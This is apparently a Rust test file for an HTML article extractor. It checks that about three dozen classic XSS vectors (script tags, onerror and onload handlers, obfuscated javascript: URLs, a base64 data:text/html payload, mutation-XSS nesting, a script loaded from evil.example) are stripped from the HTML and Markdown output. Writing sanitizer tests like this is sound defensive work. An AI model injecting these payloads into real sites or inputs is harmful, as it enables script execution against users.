//! The classic XSS vectors, each inside a real article paragraph, through `extract` and
//! every renderer. `html()` is re-parsed the way a browser would read it
//! (`tests/safety/mod.rs`): no script, no event handler, no `style`/`srcdoc`, no
//! `javascript:`/`vbscript:`/`data:text/html` URL may survive, and every link carries
//! `rel="noopener noreferrer"`. `markdown()`, rendered by a CommonMark renderer, must not
//! carry an element, handler or script URL either (its links need no `rel`).

mod safety;

use unboil::Extractor;

/// Vectors from the OWASP filter-evasion cheat sheet and the mutation-XSS literature.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">click me</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">mixed case</a>",
    "<a href=\"java&#x09;script:alert(1)\">tab inside</a>",
    "<a href=\" &#14;  javascript:alert(1)\">control before</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">entities</a>",
    "<a href=\"vbscript:msgbox(1)\">vbscript</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\">handler on a good link</a>",
    "<svg onload=alert(1)><circle r=4 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>svg link</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<p style=\"background:url(javascript:alert(1))\">styled paragraph text</p>",
    "<div style=\"width: expression(alert(1))\">expression text</div>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">go</button></form>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\"><a href=\"relative\">relative link</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<details open ontoggle=alert(1)><summary>toggle</summary></details>",
    "<video poster=javascript:alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<img alt='\"><script>alert(1)</script>' src=\"photo.jpg\">",
    "&lt;script&gt;alert(1)&lt;/script&gt; written as text",
    "<code>&lt;/code&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code>",
    "<pre><code>&lt;/pre&gt;&lt;img src=x onerror=alert(1)&gt;</code></pre>",
    "<table><tr><td><a href=javascript:alert(1)>cell link</a></td></tr></table>",
    "<blockquote cite=\"javascript:alert(1)\">quoted words in a quote</blockquote>",
    "<ul><li><a href=\"javascript:alert(1)\" target=_blank>list link</a></li></ul>",
    "<figure><img src=\"x\" onerror=\"alert(1)\"><figcaption onmouseover=alert(1)>caption</figcaption></figure>",
];

/// The markdown as a CommonMark renderer (pulldown-cmark) turns it into HTML.
fn markdown_to_html(markdown: &str) -> String {
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, pulldown_cmark::Parser::new(markdown));
    html
}

/// `vector` between two ordinary paragraphs of an article, so it sits inside the content.
fn page_with(vector: &str) -> String {
    let prose = "The council met on Tuesday evening to discuss the new budget, which \
                 includes funding for roads, schools and the public library. Residents \
                 asked questions for more than an hour, and the vote was postponed.";
    format!(
        "<!doctype html><html><head><title>Budget</title></head><body><article>\
         <h1>Council budget</h1><p>{prose}</p><p>Before the vector. {vector} After the \
         vector, the paragraph goes on with more words.</p><p>{prose}</p></article></body></html>"
    )
}

fn check(extractor: &Extractor, vector: &str) {
    let article = match extractor.extract(&page_with(vector)) {
        Ok(article) => article,
        Err(e) => panic!("{vector}: extraction failed: {e}"),
    };
    let html = article.html();
    assert_eq!(safety::first_unsafe(&html), None, "{vector}\n{html}");
    let lower = html.to_ascii_lowercase();
    assert!(!lower.contains("<script"), "{vector}\n{html}");
    let markdown = article.markdown();
    let rendered = markdown_to_html(&markdown);
    assert_eq!(
        safety::first_unsafe_markdown(&rendered),
        None,
        "{vector}: markdown rendered by a CommonMark renderer\n{markdown}\n{rendered}"
    );
    assert!(
        article.text().contains("After the vector"),
        "{vector}: the paragraph's text is lost\n{}",
        article.text()
    );
}

#[test]
fn classic_vectors_do_not_survive_html_or_markdown() {
    let plain = Extractor::new();
    for vector in VECTORS {
        check(&plain, vector);
    }
}

#[test]
fn classic_vectors_do_not_survive_with_a_base_url() {
    let based = Extractor::new()
        .base_url("https://news.example/2026/budget.html")
        .unwrap();
    for vector in VECTORS {
        check(&based, vector);
    }
}

#[test]
fn links_get_noopener_and_resolve_against_the_base_url_only() {
    let page = page_with(
        "<base href=\"https://evil.example/\"><a href=\"/about\">about us</a> and \
         <a href=\"https://other.example/x\">elsewhere</a>",
    );
    let based = Extractor::new()
        .base_url("https://news.example/2026/budget.html")
        .unwrap()
        .extract(&page)
        .unwrap()
        .html();
    assert!(
        based.contains(
            r#"<a href="https://news.example/about" rel="noopener noreferrer">about us</a>"#
        ),
        "{based}"
    );
    assert!(
        based.contains(
            r#"<a href="https://other.example/x" rel="noopener noreferrer">elsewhere</a>"#
        ),
        "{based}"
    );
    assert!(!based.contains("evil.example"), "{based}");

    let unbased = unboil::extract(&page).unwrap().html();
    assert!(
        unbased.contains(r#"<a href="/about" rel="noopener noreferrer">about us</a>"#),
        "without a base URL a relative link stays relative: {unbased}"
    );
}

#[test]
fn escaped_markup_in_text_stays_text() {
    let article =
        unboil::extract(&page_with("&lt;b onmouseover=alert(1)&gt;bold&lt;/b&gt;")).unwrap();
    assert!(article.text().contains("<b onmouseover=alert(1)>bold</b>"));
    assert!(
        article
            .html()
            .contains("&lt;b onmouseover=alert(1)&gt;bold&lt;/b&gt;"),
        "{}",
        article.html()
    );
}

/// The check is not vacuous: on the raw vectors, unsanitized, it finds something in every
/// one but those that are only text until a renderer forgets to escape them.
#[test]
fn the_check_catches_every_raw_vector() {
    let text_only = |v: &str| {
        ["&lt;", "<code>", "<pre>", "<img alt="]
            .iter()
            .any(|start| v.starts_with(start))
    };
    for vector in VECTORS.iter().filter(|v| !text_only(v)) {
        assert!(safety::first_unsafe(vector).is_some(), "{vector}");
    }
}
